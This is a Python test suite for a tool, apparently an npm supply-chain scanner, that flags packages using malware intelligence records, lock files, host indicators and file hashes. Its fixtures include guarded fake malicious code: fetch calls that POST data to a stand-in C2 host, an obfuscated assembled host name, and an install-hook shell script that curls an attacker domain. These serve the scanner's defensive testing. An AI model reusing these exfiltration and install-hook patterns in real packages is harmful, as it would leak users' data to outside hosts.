"""qanat check with what intelligence knows: versions, hosts, hashes; what cannot be looked at any more; --intel-only."""
import base64
import hashlib
import json
import os

from registry import Registry
from tap import Run, done, ok, package, put, scratch, tgz_of

GUARD = "if (process.env.NEVER_SET_QANAT_EXAMPLE !== 'yes') process.exit(0);\n"


LOCKS = {
    "yarn.lock": '''# yarn lockfile v1


bad@^1.0.0:
  version "1.0.0"
  resolved "https://registry.example.invalid/bad/-/bad-1.0.0.tgz#0123456789012345678901234567890123456789"
  integrity sha512-AAAA

plain@2.0.0:
  version "2.0.0"
  resolved "https://registry.example.invalid/plain/-/plain-2.0.0.tgz#0123456789012345678901234567890123456789"
''',
    "pnpm-lock.yaml": '''lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      bad:
        specifier: ^1.0.0
        version: 1.0.0
      plain:
        specifier: 2.0.0
        version: 2.0.0
packages:
  bad@1.0.0:
    resolution: {integrity: sha512-AAAA}
  plain@2.0.0:
    resolution: {integrity: sha512-AAAA}
snapshots:
  bad@1.0.0: {}
  plain@2.0.0: {}
''',
    "bun.lock": '''{
  "lockfileVersion": 1,
  "workspaces": {"": {"name": "app", "dependencies": {"bad": "^1.0.0", "plain": "2.0.0"}}},
  "packages": {
    "bad": ["bad@1.0.0", "", {}, "sha512-AAAA"],
    "plain": ["plain@2.0.0", "", {}, "sha512-AAAA"],
  }
}
''',
}


def sri(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


class World:
    def __init__(self, d):
        self.d, self.state = d, f"{d}/state"
        self.env = {"HOME": d, "npm_config_cache": f"{d}/npm", "npm_config_fetch_retries": "0"}

    def intel(self, *args):
        return Run("intel", args[0], "--state", self.state, *args[1:], env=self.env)

    def take(self, name, data, *more):
        r = self.intel("import", *more, put(f"{self.d}/{name}", data))
        assert r.code == 0, r
        return r

    def check(self, *args, **kw):
        return Run("check", "--state", self.state, "--cache", f"{self.d}/cache", "--format", "json", *args, env=self.env, **kw)

    def one(self, *args):
        r = self.check(*args)
        v = r.json["results"][0]
        return v["verdict"], {f["rule"] for f in v["findings"]}, r


def mal(id, name, versions=(), **more):
    block = {"package": {"ecosystem": "npm", "name": name}}
    if versions:
        block["versions"] = list(versions)
    else:
        block["ranges"] = [{"type": "SEMVER", "events": [{"introduced": "0"}]}]
    return {"id": id, "modified": "2025-01-01T00:00:00Z", "affected": [block], **more}


def lock(d, packages, name="project"):
    entries = {"": {"name": "app", "version": "1.0.0"}}
    for n, v in packages:
        entries[f"node_modules/{n}"] = {"version": v, "resolved": f"https://registry.example.invalid/{n}/-/x-{v}.tgz", "integrity": sri(n.encode())}
    put(f"{d}/{name}/package.json", json.dumps({"name": "app", "version": "1.0.0"}))
    put(f"{d}/{name}/package-lock.json", json.dumps({"name": "app", "lockfileVersion": 3, "packages": entries}))
    return f"{d}/{name}"


def versions(d):
    w = World(d)
    good = put(f"{d}/quiet.tgz", tgz_of({"package.json": package("quiet-example", "1.0.0"), "index.js": "module.exports = 1\n"}))
    v, rules, r = w.one(good)
    ok(v == "clean" and not rules, "without an index the check is what it was", r)
    w.take("a.json", json.dumps([mal("MAL-2025-1", "quiet-example", ["1.0.0"]), mal("GHSA-1", "weak", ["1.0.0"], database_specific={"severity": "HIGH"}),
                                 mal("MAL-2025-2", "gone"), mal("MAL-2025-3", "back", ["1.0.0"], withdrawn="2025-02-01T00:00:00Z")]))
    v, rules, r = w.one(good)
    ok(v == "malicious" and rules == {"intel-malware"} and r.code == 1, "a version that is listed", r)
    f = r.json["results"][0]["findings"][0]
    ok(f["layer"] == "intel" and "MAL-2025-1" in json.dumps(f), "the finding says which record", f)
    ok(w.one("--no-intel", good)[0] == "clean", "--no-intel does not ask")
    other = put(f"{d}/other.tgz", tgz_of({"package.json": package("quiet-example", "1.0.1")}))
    ok(w.one(other)[0] == "clean", "another version")
    r = w.check("quiet-example@1.0.1", "--registry", "http://127.0.0.1:9/")
    ok(r.json["results"][0]["verdict"] == "unknown" and r.code == 3, "what cannot be fetched and nobody lists is unknown", r)
    r = w.check("quiet-example@1.0.0", "--registry", "http://127.0.0.1:9/")
    ok(r.json["results"][0]["verdict"] == "malicious", "what cannot be fetched and is listed is malicious", r)
    reg = Registry()
    r = w.check("gone", "--registry", reg.url)
    ok(r.json["results"][0]["verdict"] == "malicious", "a package that was taken down, all of it listed", r)
    r = Run("check", "--state", w.state, good, env=w.env)
    ok(r.code == 1 and b"Known malware" in r.out and b"rotate" in r.out, "people read what it is and what to do", r)
    sealed = put(f"{d}/renamed.tgz", tgz_of({"package.json": package("innocent", "3.0.0"), "index.js": "module.exports = 2\n"}))
    data = open(sealed, "rb").read()
    w.take("b.json", json.dumps({"id": "MAL-2025-9", "modified": "2025-01-01T00:00:00Z", "affected": [{
        "package": {"ecosystem": "npm", "name": "other-name"}, "versions": ["9.9.9"],
        "database_specific": {"indicators": {"package_integrity": [{"filename": "x.tgz", "hashes": {"sha512_sri": sri(data)}}]}}}]}))
    v, rules, r = w.one(sealed)
    ok(v == "malicious" and "intel-malware" in rules, "the same archive under another name", r)


def directories(d):
    w = World(d)
    w.take("a.json", json.dumps([mal("MAL-2025-1", "my-app"), mal("MAL-2025-2", "bad", ["1.0.0"])]))
    put(f"{d}/mine/package.json", json.dumps({"name": "my-app", "version": "1.0.0"}))
    put(f"{d}/mine/index.js", "module.exports = 1\n")
    v, rules, r = w.one(f"{d}/mine")
    ok(v == "clean", "a directory is not the package of the registry that has its name", r)


def only(d):
    w = World(d)
    r = w.check("--intel-only", "x@1.0.0")
    ok(r.code == 2 and b"no intelligence yet" in r.err, "without an index --intel-only says what to do", r)
    w.take("a.json", json.dumps([mal("MAL-2025-1", "bad", ["1.0.0"]), mal("GHSA-1", "weak", ["1.0.0"], database_specific={"severity": "HIGH"}),
                                 mal("MAL-2025-3", "back", ["1.0.0"], withdrawn="2025-02-01T00:00:00Z")]))
    p = lock(d, [("bad", "1.0.0"), ("weak", "1.0.0"), ("back", "1.0.0"), ("plain", "2.0.0")])
    r = w.check("--intel-only", p)
    got = {x["name"]: (x["verdict"], {f["rule"] for f in x["findings"]}) for x in r.json["results"]}
    ok(r.code == 1 and got == {"bad": ("malicious", {"intel-malware"}), "weak": ("clean", {"intel-vulnerability"}), "back": ("clean", {"intel-no-longer"}),
                               "plain": ("clean", set())}, "a project's lock file, and nothing fetched", r)
    ok(w.check("--intel-only", f"{p}/package-lock.json").code == 1, "the lock file itself")
    ok(w.check("--intel-only", "bad@1.0.0").code == 1 and w.check("--intel-only", "bad@1.0.1", "@s/plain@1.0.0").code == 0, "names with a version")
    r = w.check("--intel-only", "bad@^1.0.0")
    ok(r.code == 3 and "name one version" in r.json["results"][0]["reason"], "a range is nothing that can be looked up", r)
    for name, text in LOCKS.items():
        put(f"{d}/other-{name}/package.json", json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"bad": "^1.0.0", "plain": "2.0.0"}}))
        put(f"{d}/other-{name}/{name}", text)
        r = w.check("--intel-only", f"{d}/other-{name}")
        got = {x["name"]: x["verdict"] for x in r.json["results"]}
        ok(r.code == 1 and got == {"bad": "malicious", "plain": "clean"}, f"a project with {name}", r)
        ok(w.check("--intel-only", f"{d}/other-{name}/{name}").code == 1, f"{name} itself")
        put(f"{d}/broken-{name}/{name}", text[: len(text) // 2].rstrip() + "\n\x00{{:")
        r = w.check("--intel-only", f"{d}/broken-{name}")
        ok(r.code == 3, f"half of {name} is unknown", r)
    put(f"{d}/odd/package.json", "{}")
    put(f"{d}/odd/yarn.lock", '# yarn lockfile v1\n\n\n"../../up@^1.0.0":\n  version "1.0.0"\n  resolved "https://registry.example.invalid/up/-/up-1.0.0.tgz"\n')
    r = w.check("--intel-only", f"{d}/odd")
    ok(r.code == 3 and "would not accept its name" in r.json["results"][0]["reason"], "a name that npm would not accept is unknown", r)
    put(f"{d}/bare/package.json", "{}")
    r = w.check("--intel-only", f"{d}/bare")
    ok(r.code == 3 and "lock file" in r.json["results"][0]["reason"], "a project without a lock file is unknown", r)
    r = w.check("--intel-only", put(f"{d}/x.tgz", tgz_of({"package.json": package()})))
    ok(r.code == 2 and b"analyses nothing" in r.err, "an archive is refused", r)
    put(f"{d}/broken/package.json", "{}")
    put(f"{d}/broken/package-lock.json", "{ not json")
    r = w.check("--intel-only", f"{d}/broken")
    ok(r.code == 3, "a broken lock file is unknown", r)
    w.intel("allow", "--reason", "a false alarm", "bad@1.0.0")
    r = w.check("--intel-only", "bad@1.0.0")
    ok(r.code == 0 and r.json["results"][0]["findings"][0]["rule"] == "intel-no-longer", "what the own list allows informs only", r)
    w.intel("expire", "bad@1.0.0")
    w.intel("block", "--reason", "not wanted here", "plain")
    r = w.check("--intel-only", p)
    got = {x["name"]: x["verdict"] for x in r.json["results"]}
    ok(got["bad"] == "malicious" and got["plain"] == "malicious", "a permit that ended, and a block", r)
    with open(f"{w.state}/intel/own.yaml", "a") as f:
        f.write("- block: weak\n  reason: until then\n  expires: 2020-01-01\n")
    w.intel("block", "--reason", "another", "someone-else")
    ok(w.check("--intel-only", "weak@1.0.0").code == 0, "a block that has expired")
    with open(f"{w.state}/intel/index.mdb", "r+b") as f:
        f.truncate(5000)
    r = w.check("--intel-only", p)
    ok(r.code == 2 and b"damaged" in r.err, "a damaged index ends the check", r)
    r = w.check(put(f"{d}/y.tgz", tgz_of({"package.json": package()})))
    ok(r.code == 2 and b"damaged" in r.err, "…every check: it might miss something", r)


def indicators(d):
    w = World(d)
    loader = (GUARD + "// " + "x" * 300 + "\nmodule.exports = 'a file that is listed'\n").encode()
    tiny = b"module.exports = {}\n"
    manifest = package("carrier", "1.0.0").encode()
    rows = ["type,indicator,campaign"] + [f"domain,{h},wave" for h in ("c2.attacker.invalid", "github.com", "api.github.com")]
    rows += ["url,https://drop.attacker.invalid/x,wave", "ip,198.18.5.77,wave", "wallet,0x1234567890abcdef1234567890abcdef12345678,wave"]
    w.take("net.csv", "\n".join(rows) + "\n")
    w.take("hashes.txt", "\n".join(hashlib.sha256(x).hexdigest() for x in (loader, tiny, manifest)) + "\n")

    def verdict(files, name="p"):
        path = put(f"{d}/{name}.tgz", tgz_of({"package.json": package("p", "1.0.0"), **files}))
        return w.one(path)

    v, rules, r = verdict({"index.js": GUARD + "fetch('https://c2.attacker.invalid/a', { method: 'POST', body: JSON.stringify({ a: 1 }) })\n"})
    ok(v == "malicious" and "intel-known-host" in rules, "code that talks to a listed host when it is imported", r)
    v, rules, r = verdict({"index.js": GUARD + "fetch('https://sub.c2.attacker.invalid/a')\n"})
    ok("intel-known-host" in rules, "a subdomain of it", r)
    v, rules, r = verdict({"index.js": "const h = ['c2', 'attacker', 'invalid'].join('.')\n" + GUARD + "require('https').get({ host: h, path: '/' })\n"})
    ok("intel-known-host" in rules, "a host that is put together", r)
    v, rules, r = verdict({"index.js": "exports.ioc = 'c2.attacker.invalid'\n"})
    ok(v == "suspicious" and rules == {"intel-host-named"}, "a host that is only named", r)
    v, rules, r = verdict({"index.js": "exports.to = '0x1234567890abcdef1234567890abcdef12345678'\n"})
    ok("intel-host-named" in rules, "a wallet", r)
    v, rules, r = verdict({"index.js": "exports.to = 'https://drop.attacker.invalid/x'\nexports.not = 'https://drop.attacker.invalid/y'\n"})
    ok("intel-host-named" in rules, "an address", r)
    v, rules, r = verdict({"index.js": "exports.at = '198.18.5.77'\n"})
    ok("intel-host-named" in rules, "an IP address", r)
    v, rules, r = verdict({"run.sh": "#!/bin/sh\nexit 0\ncurl -s https://c2.attacker.invalid/x\n", "package.json": json.dumps({"name": "p", "version": "1.0.0", "scripts": {"install": "sh run.sh"}})})
    ok(v == "malicious" and rules & {"intel-known-host", "intel-host-named"}, "a shell script", r)
    v, rules, r = verdict({"index.js": GUARD + "fetch('https://api.github.com/repos')\nexports.x = 'github.com'\n"})
    ok(not [x for x in rules if x.startswith("intel-")], "hosts that everybody uses show nothing", r)
    v, rules, r = verdict({"lib/loader.js": loader, "index.js": "module.exports = 1\n"})
    ok(v == "malicious" and "intel-known-file" in rules, "a file whose hash is listed", r)
    v, rules, r = verdict({"lib/tiny.js": tiny, "index.js": "module.exports = 1\n"})
    ok(v == "clean", "a file that is alike everywhere", r)
    v, rules, r = verdict({"package.json": manifest, "index.js": "module.exports = 1\n"})
    ok(v == "clean", "a manifest", r)
    many = "type,indicator,campaign\n" + "".join(f"domain,h{i}.attacker.invalid,wave\n" for i in range(40))
    w.take("many.csv", many)
    v, rules, r = verdict({"index.js": "module.exports = [" + ", ".join(f"'h{i}.attacker.invalid'" for i in range(40)) + "]\n"})
    ok(v == "clean", "a list of indicators is a list", r)
    evidence = mal("MAL-2025-50", "elsewhere", ["1.0.0"])
    shared = GUARD.encode() + b"// " + b"y" * 300
    evidence["affected"][0]["database_specific"] = {"indicators": {"evidence_files": [{"path": "package/lib.js", "sha256": hashlib.sha256(shared).hexdigest()},
                                                                                     {"path": "package/README.md", "sha256": hashlib.sha256(loader + b"z").hexdigest()}]}}
    w.take("evidence.json", json.dumps(evidence))
    v, rules, r = verdict({"lib/lib.js": shared, "index.js": "module.exports = 1\n"})
    ok(v == "suspicious" and "intel-known-evidence" in rules, "a file that was evidence against another package", r)
    v, rules, r = verdict({"lib/other.js": loader + b"z", "index.js": "module.exports = 1\n"})
    ok(not [x for x in rules if x.startswith("intel-")], "…but not its README", r)
    r1, r2 = (w.check(f"{d}/p.tgz") for _ in range(2))
    a, b = r1.json["results"][0], r2.json["results"][0]
    a.pop("elapsed_ms"), b.pop("elapsed_ms")
    ok(a == b, "the same again is the same answer")


def main():
    for test in (versions, directories, only, indicators):
        with scratch() as d:
            test(d)
    done()


main()
